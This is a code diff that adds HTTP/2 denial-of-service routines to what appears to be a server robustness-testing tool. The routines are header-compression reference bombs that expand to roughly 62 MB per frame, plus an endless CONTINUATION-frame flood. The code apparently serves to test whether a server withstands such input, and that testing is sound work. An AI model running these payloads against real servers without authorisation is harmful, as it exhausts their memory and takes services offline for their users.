@@ -75,6 +75,31 @@ def headers(target: Target, many: int) -> None:
         connection.settle(0.2)
 
 
+def references(target: Target, many: int) -> None:
+    """One large header in the peer's table, then blocks of 16,000 one-byte references to it: 62 MB each once read."""
+    bomb = http2.REFERENCE * 16_000
+    kept = {"a name of its own": ("x-more", b"m" * 3900), "a binary one": ("x-more-bin", b"AAAA" * 975)}
+    kept["the path"] = (":path", b"/" + b"m" * 3900)
+    for what, entry in kept.items():
+        with target.attack(f"references to one header, {what}"), Connection(target.address) as connection:
+            opening = http2.call_headers(GET) + http2.remembered(*entry)
+            connection.send(frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, 1, opening))
+            for number in range(many):
+                target.report.count("hostile frames")
+                flags = http2.END_HEADERS | http2.END_STREAM
+                if not connection.send(frame(http2.HEADERS, flags, 2 * number + 3, bomb)):
+                    break
+            connection.settle(0.2)
+            target.check("among references to one header")
+    with target.attack("references that do not end"), Connection(target.address) as connection:
+        connection.send(frame(http2.HEADERS, 0, 1, http2.call_headers(GET) + http2.remembered("x-more", b"m" * 3900)))
+        for _ in range(many):
+            target.report.count("hostile frames")
+            if not connection.send(frame(http2.CONTINUATION, 0, 1, bomb)):
+                break
+        connection.settle(0.2)
+
+
 def garbage(target: Target) -> None:
     """What is no HTTP/2, and frames where they make no sense."""
     hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"  # of TLS
